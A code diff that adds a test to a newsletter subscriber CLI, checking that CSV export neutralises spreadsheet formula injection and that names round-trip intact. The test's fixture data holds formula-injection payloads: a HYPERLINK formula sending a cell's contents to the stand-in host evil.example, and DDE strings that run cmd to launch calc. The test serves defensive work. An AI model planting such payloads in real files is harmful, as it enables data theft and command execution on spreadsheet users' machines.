@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -115,3 +117,42 @@ def test_db_upgrade_and_status(cli) -> None:  # type: ignore[no-untyped-def]
     assert first.code == 0 and "upgraded" in first.stdout and "from empty" in first.stdout
     assert "is up to date" in cli("db", "upgrade").stdout
     assert "(up to date)" in cli("db", "status").stdout
+
+
+def test_export_cells_cannot_start_a_formula_and_read_back_the_same(
+    cli, tmp_path: Path, workspace: Path
+) -> None:  # type: ignore[no-untyped-def]
+    hostile = {
+        '=HYPERLINK("http://evil.example/?x="&A2,"Click")': "formula@example.org",
+        "+1+cmd|' /C calc'!A0": "plus@example.org",
+        "-2+3": "minus@example.org",
+        "@SUM(1+1)*cmd|' /C calc'!A0": "at@example.org",
+    }
+    source = tmp_path / "hostile.csv"
+    with source.open("w", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["email", "name", "note"])
+        for name, email in hostile.items():
+            writer.writerow([email, name, "=1+1"])
+        writer.writerow(["-dash@example.org", "Plain", ""])
+    assert cli("subscribers", "import", str(source), "--list", "weekly").code == 0
+    out = tmp_path / "export.csv"
+    assert cli("subscribers", "export", "--list", "weekly", "-o", str(out)).code == 0
+    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
+    exported = {row[0]: row for row in rows[1:]}
+    for name, email in hostile.items():
+        row = exported[email]
+        assert row[1] == "'" + name  # shown as text by a spreadsheet
+        assert row[rows[0].index("note")] == "'=1+1"
+    assert "'-dash@example.org" in exported
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    # Read back into a fresh database: the same names, no apostrophes.
+    fresh = workspace / "fresh.db"
+    env = {"NEWSLETTER_DATABASE__URL": f"sqlite:///{fresh}"}
+    assert cli("subscribers", "import", str(out), "--list", "weekly", env=env).code == 0
+    again = tmp_path / "again.csv"
+    assert cli("subscribers", "export", "--list", "weekly", "-o", str(again), env=env).code == 0
+    assert again.read_text() == out.read_text()
+    shown = json.loads(cli("subscribers", "show", "formula@example.org", "--json", env=env).stdout)
+    assert shown["name"] == next(iter(hostile))
